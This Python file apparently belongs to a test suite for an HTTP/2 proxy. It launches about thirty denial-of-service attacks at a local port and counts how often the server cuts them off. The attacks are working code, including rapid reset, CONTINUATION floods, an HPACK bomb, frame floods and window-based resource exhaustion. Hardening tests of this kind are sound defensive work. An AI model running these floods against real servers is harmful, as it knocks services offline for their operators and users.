"""Attacks on an HTTP/2 server, as a program: `attacks.py PORT NAME`. It runs until its input ends.

Several connections repeat the attack, and reconnect when they are closed. At the end it prints how
often they were stopped. It has a low priority, as if it ran on another machine.
"""

import sys
import threading

import hpack

from frames import *
from programs import give_way

# All other clients use 127.0.0.1.
ADDRESS = "127.0.0.2"
ATTACKERS = 4
MIB = 1024 * 1024
GET = request()


class Attacker(Connection):
    """Sends without reading until it is stopped; responses are read afterwards."""

    def __init__(self, port, ended):
        super().__init__(port, address=ADDRESS)
        self.ended = ended
        self.socket.settimeout(0.2)

    def flood(self, *frames):
        view = memoryview(b"".join(frames))
        while view:
            if self.ended.is_set():
                raise Closed
            try:
                view = view[self.socket.send(view) :]
            except TimeoutError:
                # The proxy no longer reads, which also counts as stopped.
                pass
            except OSError:
                raise Closed from None

    def hold(self):
        """Keeps the connection open until the attack is over."""
        self.ended.wait()
        raise Closed


def again(frames, times=1000):
    """Repeats the same frames many times."""
    return lambda client: client.flood(frames * times)


def requests(*frames_of):
    """Requests, each followed by the frames that these functions make of its stream number."""

    def attack(client):
        for stream in range(1, 2**20, 200):
            numbers = range(stream, stream + 200, 2)
            client.flood(b"".join(make(number) for number in numbers for make in frames_of))

    return attack


def asked(stream, end=True):
    return headers(stream, GET, end=end)


def half(stream):
    return headers(stream, request("PUT"), end=False)


def continuation_flood(client):
    client.flood(frame(HEADERS, END_STREAM, 1, block(GET)))
    again(frame(CONTINUATION, 0, 1, block([("x-a", "b" * 1000)])))(client)


def empty_continuation_flood(client):
    client.flood(frame(HEADERS, END_STREAM, 1, block(GET)))
    again(frame(CONTINUATION, 0, 1))(client)


def hpack_bomb(client):
    """One large field, stored in the table and then referenced by one byte as often as fits into a frame."""
    encoder = hpack.Encoder()
    large = encoder.encode([("x-large", "x" * 4000)], huffman=False)
    index = integer(62, 7, 0x80)
    for stream in range(1, 2**20, 2):
        bomb = block(GET) + (large if stream == 1 else b"") + index * 8000
        client.flood(frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb))


def large_heads(client):
    """Heads of the maximum size, for requests whose bodies never arrive."""
    large = [(f"x-{number}", "x" * 600) for number in range(90)]
    for stream in range(1, 256, 2):
        fields = block(request("PUT") + large)
        pieces = [fields[start : start + FRAME_SIZE] for start in range(0, len(fields), FRAME_SIZE)]
        client.flood(frame(HEADERS, 0, stream, pieces[0]))
        for piece in pieces[1:]:
            client.flood(frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, stream, piece))
    client.hold()


def zero_window(client):
    """Large responses that are never read."""
    client.flood(settings((INITIAL_WINDOW_SIZE, 0)))
    client.flood(b"".join(headers(stream, request("GET", f"/{64 * MIB}")) for stream in range(1, 256, 2)))
    client.hold()


def one_byte_windows(client):
    """Large responses of which only the beginning is read."""
    client.flood(settings((INITIAL_WINDOW_SIZE, 1)))
    client.flood(b"".join(headers(stream, request("GET", f"/{64 * MIB}")) for stream in range(1, 256, 2)))
    client.hold()


def unread(client):
    """Large responses with open windows, on a socket that is never read."""
    client.flood(settings((INITIAL_WINDOW_SIZE, MAX_WINDOW)), window_update(0, MAX_WINDOW - 65535))
    client.flood(b"".join(headers(stream, request("GET", f"/{64 * MIB}")) for stream in range(1, 256, 2)))
    client.hold()


def unread_answers(client):
    """PINGs whose acknowledgements are never read."""
    again(ping(), 100_000)(client)


def tiny_data(client):
    client.flood(half(1))
    again(data(1, b"x"))(client)


def empty_data(client):
    client.flood(half(1))
    again(data(1))(client)


def padding(client):
    client.flood(half(1))
    again(frame(DATA, PADDED, 1, bytes([255]) + bytes(255)))(client)


def held_bodies(client):
    """Bodies as large as the window, for requests that the upstream does not read."""
    for stream in range(1, 256, 2):
        client.flood(half(stream), data(stream, b"x" * FRAME_SIZE))
    client.hold()


ATTACKS = {
    "rapid reset": requests(asked, reset),
    "rapid reset of bodies": requests(half, reset),
    "provoked resets: window": requests(asked, lambda stream: window_update(stream, MAX_WINDOW)),
    "provoked resets: nothing": requests(asked, lambda stream: window_update(stream, 0)),
    "provoked resets: priority": requests(
        lambda stream: frame(PRIORITY, 0, stream, dependency(stream))
    ),
    "provoked resets: data": requests(asked, lambda stream: data(stream, b"x")),
    "provoked resets: length": requests(
        lambda stream: headers(stream, request("GET", "/k", "photos.example", ("content-length", "1")))
    ),
    "malformed requests": requests(lambda stream: headers(stream, [*GET, ("connection", "close")])),
    "requests to no host": requests(lambda stream: headers(stream, request("GET", "/k", "nobody.example"))),
    "CONTINUATION": continuation_flood,
    "empty CONTINUATION": empty_continuation_flood,
    "SETTINGS": again(settings((INITIAL_WINDOW_SIZE, 65535))),
    "SETTINGS that change windows": again(settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 2))),
    "empty SETTINGS": again(settings()),
    "table sizes": again(settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 65536))),
    "PING": again(ping()),
    "PING unread": unread_answers,
    "PRIORITY": again(frame(PRIORITY, 0, 1, dependency(3))),
    "WINDOW_UPDATE": again(window_update(0, 1)),
    "unknown frames": again(frame(0x2A)),
    "tiny DATA": tiny_data,
    "empty DATA": empty_data,
    "padding": padding,
    "empty HEADERS": requests(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream)),
    "HPACK bomb": hpack_bomb,
    "large heads": large_heads,
    "bodies that are held": held_bodies,
    "zero windows": zero_window,
    "windows of one byte": one_byte_windows,
    "unread responses": unread,
}


def attack(port, way, ended, stopped):
    """Attacks on one connection after another, and counts how often it was stopped."""
    while not ended.is_set():
        try:
            with Attacker(port, ended) as client:
                while True:
                    way(client)
        except Closed:
            stopped.append(not ended.is_set())
        except OSError:
            pass


def main(port, name):
    give_way()
    ended = threading.Event()
    stopped = []
    arguments = (int(port), ATTACKS[name], ended, stopped)
    attackers = [threading.Thread(target=attack, args=arguments) for _ in range(ATTACKERS)]
    for each in attackers:
        each.start()
    print("attacking", flush=True)
    sys.stdin.read()
    ended.set()
    for each in attackers:
        each.join()
    print(f"stopped {sum(stopped)} times", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
